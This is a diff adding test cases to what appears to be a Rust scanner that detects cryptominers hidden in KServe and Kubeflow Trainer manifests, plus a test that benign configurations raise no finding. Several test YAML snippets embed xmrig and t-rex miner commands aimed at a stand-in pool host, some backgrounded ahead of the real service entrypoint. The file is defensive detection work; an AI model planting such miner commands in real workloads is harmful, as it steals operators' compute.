@@ -386,6 +386,90 @@ spec:
             "spec.trainer.command[2]",
         ),
         (
+            "TrainJob dataset initializer env",
+            r#"
+apiVersion: trainer.kubeflow.org/v1alpha1
+kind: TrainJob
+metadata: {name: tj, namespace: team}
+spec:
+  runtimeRef: {name: torch-distributed}
+  initializer:
+    dataset:
+      storageUri: hf://tatsu-lab/alpaca
+      env: [{name: PRESTART, value: "./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"}]
+  trainer: {image: "pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime", command: [torchrun, train.py]}
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.initializer.dataset.env[0].value",
+        ),
+        (
+            "TrainJob runtime patch env",
+            r#"
+apiVersion: trainer.kubeflow.org/v1alpha1
+kind: TrainJob
+metadata: {name: tj, namespace: team}
+spec:
+  runtimeRef: {name: torch-distributed}
+  trainer: {image: "pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime", command: [torchrun, train.py]}
+  runtimePatches:
+  - manager: team.example.com/patcher
+    trainingRuntimeSpec:
+      template:
+        spec:
+          replicatedJobs:
+          - name: node
+            template:
+              spec:
+                template:
+                  spec:
+                    containers:
+                    - name: node
+                      env: [{name: EXTRA, value: "--url stratum+tcp://pool.example.invalid:443 --donate-level 1"}]
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.runtimePatches[0].trainingRuntimeSpec.template.spec.replicatedJobs[0].template.spec.template.spec.containers[0].env[0].value",
+        ),
+        (
+            "LLMInferenceService scheduler",
+            r#"
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceService
+metadata: {name: llm, namespace: team}
+spec:
+  model: {uri: hf://Qwen/Qwen2.5-7B-Instruct}
+  router:
+    scheduler:
+      template:
+        containers:
+        - name: main
+          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
+          command: [sh, -c, "/tmp/.x/xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1 & exec /app/epp"]
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.router.scheduler.template.containers[0].command[2]",
+        ),
+        (
+            "LLMInferenceServiceConfig template",
+            r#"
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceServiceConfig
+metadata: {name: kserve-config-llm-template, namespace: kserve}
+spec:
+  template:
+    containers:
+    - name: main
+      image: ghcr.io/llm-d/llm-d:v0.2.0
+      command: [/bin/sh, -c]
+      args: ["nohup t-rex -a kawpow -o stratum+tcp://pool.example.invalid:3333 -u rig & exec vllm serve /mnt/models"]
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.template.containers[0].args[0]",
+        ),
+        (
             "KFP v2 task parameter constant",
             r#"
 pipelineInfo: {name: param-pipeline}
@@ -554,6 +638,106 @@ fn look_alikes_stay_quiet() {
         );
         assert_eq!(brief(&scan(&tf)), vec![], "{c} in TensorFlow");
     }
+}
+
+/// Real shapes of the places added for KServe's LLM kinds and Kubeflow Trainer v2 (KServe's
+/// `kserve-config-llm-scheduler` and `kserve-config-llm-template` configs with their Go
+/// templates, a scheduler on the endpoint picker's ports, a TrainJob with initializers and a
+/// Kueue runtime patch): nothing a miner would run, and no finding.
+#[test]
+fn llm_and_trainer_near_misses_stay_quiet() {
+    let yaml = r#"
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceServiceConfig
+metadata: {name: kserve-config-llm-scheduler, namespace: kserve}
+spec:
+  router:
+    scheduler:
+      pool:
+        spec:
+          extensionRef: {failureMode: FailOpen, kind: Service, name: "{{ ChildName .ObjectMeta.Name `-epp-service` }}"}
+          selector: {}
+          targetPortNumber: 8000
+      template:
+        containers:
+        - name: main
+          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
+          ports:
+          - {containerPort: 9002, name: grpc, protocol: TCP}
+          - {containerPort: 9003, name: grpc-health, protocol: TCP}
+          - {containerPort: 9090, name: metrics, protocol: TCP}
+          - {containerPort: 5557, name: zmq, protocol: TCP}
+          args:
+          - --poolName
+          - "{{ ChildName .ObjectMeta.Name `-inference-pool` }}"
+          - --poolNamespace
+          - "{{ .ObjectMeta.Namespace }}"
+          - --zap-encoder
+          - json
+          - --grpcPort
+          - "9002"
+          - --grpcHealthPort
+          - "9003"
+          - --kv-cache-usage-percentage-metric
+          - "vllm:kv_cache_usage_perc"
+---
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceServiceConfig
+metadata: {name: kserve-config-llm-template, namespace: kserve}
+spec:
+  template:
+    containers:
+    - name: main
+      image: ghcr.io/llm-d/llm-d:v0.2.0
+      command: [vllm, serve, /mnt/models]
+      args: [--served-model-name, "{{ .Spec.Model.Name }}", --port, "8000", --gpu-memory-utilization, "0.92"]
+      env: [{name: HOME, value: /home}, {name: VLLM_LOGGING_LEVEL, value: INFO}, {name: HF_HUB_CACHE, value: /models}]
+---
+apiVersion: serving.kserve.io/v1alpha1
+kind: LLMInferenceService
+metadata: {name: qwen, namespace: llm}
+spec:
+  baseRefs: [{name: kserve-config-llm-template}, {name: kserve-config-llm-scheduler}]
+  model: {uri: hf://Qwen/Qwen2.5-7B-Instruct, name: Qwen/Qwen2.5-7B-Instruct}
+  router:
+    scheduler:
+      template:
+        containers:
+        - name: main
+          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
+          args: [--poolName, qwen-inference-pool, --poolNamespace, llm, -v, "4", --zap-encoder, json]
+          resources: {requests: {cpu: 256m, memory: 500Mi}}
+---
+apiVersion: trainer.kubeflow.org/v1alpha1
+kind: TrainJob
+metadata: {name: fine-tune, namespace: team}
+spec:
+  runtimeRef: {name: torchtune-llama3.2-1b}
+  initializer:
+    dataset: {storageUri: "hf://tatsu-lab/alpaca/data", env: [{name: HF_HUB_DISABLE_TELEMETRY, value: "1"}]}
+    model: {storageUri: "hf://meta-llama/Llama-3.2-1B-Instruct", secretRef: {name: hf-token}}
+  trainer:
+    numNodes: 2
+    image: docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727
+    command: [python3, /opt/pytorch-mnist/mnist.py, --epochs=1, --lr=0.01, --momentum=0.5]
+    resourcesPerNode: {limits: {nvidia.com/gpu: 1}}
+  runtimePatches:
+  - manager: kueue.x-k8s.io/manager
+    trainingRuntimeSpec:
+      template:
+        spec:
+          replicatedJobs:
+          - name: node
+            template:
+              spec:
+                template:
+                  spec:
+                    nodeSelector: {cloud.google.com/gke-accelerator: nvidia-l4}
+                    containers: [{name: node, env: [{name: NCCL_DEBUG, value: INFO}, {name: PORT, value: "3333"}]}]
+"#;
+    let (f, errors) = scan_noted(yaml);
+    assert_eq!(brief(&f), vec![], "{f:#?}");
+    assert_eq!(errors, vec![]);
 }
 
 #[test]
